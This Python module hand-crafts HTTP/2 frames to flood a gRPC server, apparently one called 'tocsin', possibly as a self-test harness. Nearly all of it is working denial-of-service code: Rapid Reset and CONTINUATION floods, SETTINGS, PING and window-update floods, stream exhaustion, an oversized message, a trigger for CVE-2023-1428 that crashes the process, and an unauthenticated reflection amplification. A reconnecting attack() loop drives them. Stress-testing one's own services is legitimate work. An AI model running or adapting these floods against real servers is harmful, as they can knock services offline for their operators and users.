"""HTTP/2 as an attacker writes it: frames by hand, whatever the standard says about their order. One flood is a generator of pieces to send."""
import itertools
import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def number(value, bits):
    """An HPACK integer."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def field(name, value):
    """A header of its own, never in a table."""
    return b"\0" + number(len(name), 7) + name.encode() + number(len(value), 7) + value.encode()


def call(*more, key="", path="/tocsin.v1.IngestService/Stream"):
    """Headers of a call that is taken."""
    te = [] if any(name == "te" for name, _ in more) else [("te", "trailers")]
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "tocsin"),
               ("content-type", "application/grpc"), *te, *more]
    if key:
        headers.append(("authorization", f"Bearer {key}"))
    return b"".join(field(name, value) for name, value in headers)


def streams():
    return itertools.count(1, 2)


def opened(stream, block, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, block)


def rapid_reset(key):
    for stream in streams():
        yield opened(stream, call(key=key)) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_to_reset(key):
    """The server is made to reset each stream itself, by a window that grows by nothing."""
    for stream in streams():
        yield opened(stream, call(key=key)) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def continuations(key):
    yield opened(1, call(key=key), 0)
    while True:
        yield frame(CONTINUATION, 0, 1, field("x-more", "y" * 4000))


def empty_continuations(key):
    yield opened(1, call(key=key), 0)
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def settings(_):
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100


def pings(_):
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def priorities(_):
    for stream in streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15)) * 100


def window_updates(_):
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100


def empty_data(key):
    yield opened(1, call(key=key))
    while True:
        yield frame(DATA, 0, 1) * 100


def open_streams(key):
    """Never closed, more than there may be."""
    for stream in itertools.islice(streams(), 10_000):
        yield opened(stream, call(key=key))


def no_window(key):
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in itertools.islice(streams(), 100):
        yield opened(stream, call(key=key))


def huge_message(key):
    yield opened(1, call(key=key)) + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 0xFFFFFFFF))
    while True:
        yield frame(DATA, 0, 1, b"z" * 16000)


def te_and_a_large_header(key):
    """CVE-2023-1428: a library of before 1.53 ends the process."""
    for stream in streams():
        yield opened(stream, call(("te", "x"), ("x-large", "l" * 9000), key=key), END_HEADERS | END_STREAM)


def questions(_):
    """Thirty bytes each, and what is answered a thousand times as long; nobody needs a key for them."""
    symbol = b"tocsin.v1.GroupService"
    request = b"\x22" + number(len(symbol), 7) + symbol
    message = b"\0" + struct.pack(">I", len(request)) + request
    for stream in streams():
        yield (opened(stream, call(path="/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"))
               + frame(DATA, 0, stream, message * 400))


def not_a_preface(_):
    while True:
        yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 100


def random_frames(_):
    import random
    while True:
        yield frame(random.randrange(256), random.randrange(256), random.randrange(1 << 31), random.randbytes(random.randrange(300)))


FLOODS = [rapid_reset, made_to_reset, continuations, empty_continuations, settings, pings, priorities, window_updates, empty_data,
          open_streams, no_window, huge_message, te_and_a_large_header, questions, not_a_preface, random_frames]


def say_packed(address, path, key, packed):
    """One message, packed by gzip, in a call that is otherwise as it should be. What is answered until nothing more comes."""
    host, port = address.split(":")
    message, answer = b"\1" + struct.pack(">I", len(packed)) + packed, b""
    with socket.create_connection((host, int(port)), 5) as connection:
        connection.settimeout(2)
        connection.sendall(PREFACE + frame(SETTINGS) + frame(SETTINGS, 1))  # the window is the one that it tells
        connection.sendall(opened(1, call(("te", "trailers"), ("grpc-encoding", "gzip"), key=key, path=path)))
        for at in range(0, len(message), 16000):
            connection.sendall(frame(DATA, END_STREAM if at + 16000 >= len(message) else 0, 1, message[at:at + 16000]))
        try:
            while piece := connection.recv(65536):
                answer += piece
        except OSError:
            pass
    return answer


def has_ended(answer, stream):
    """Whether the last word of a call is in it: headers (of its trailers, or its only ones) that end the stream."""
    at = 0
    while at + 9 <= len(answer):
        size, kind, flags, of = int.from_bytes(answer[at:at + 3], "big"), answer[at + 3], answer[at + 4], answer[at + 5:at + 9]
        if kind == HEADERS and flags & END_STREAM and int.from_bytes(of, "big") == stream:
            return True
        at += 9 + size
    return False


def attack(address, flood, key, stopping, reads=True):
    """Sends a flood, again from the beginning whenever the server hangs up. Returns how many connections it took."""
    host, port = address.split(":")
    connections = 0
    while not stopping.is_set():
        try:
            with socket.create_connection((host, int(port)), 5) as connection:
                connections += 1
                connection.settimeout(1)
                connection.sendall((b"" if flood is not_a_preface else PREFACE) + frame(SETTINGS))
                connection.setblocking(False)
                _pour(connection, flood(key), stopping, reads)
        except OSError:
            stopping.wait(0.05)
    return connections


def _pour(connection, pieces, stopping, reads):
    for piece in pieces:
        left = memoryview(piece)
        while left:
            if stopping.is_set():
                return
            try:
                left = left[connection.send(left):]
            except BlockingIOError:
                stopping.wait(0.01)
            if reads:
                try:
                    if connection.recv(65536) == b"":
                        return
                except BlockingIOError:
                    pass
    while not stopping.wait(0.1):  # all is said; the connection stays open
        try:
            if connection.recv(65536) == b"":
                return
        except BlockingIOError:
            pass
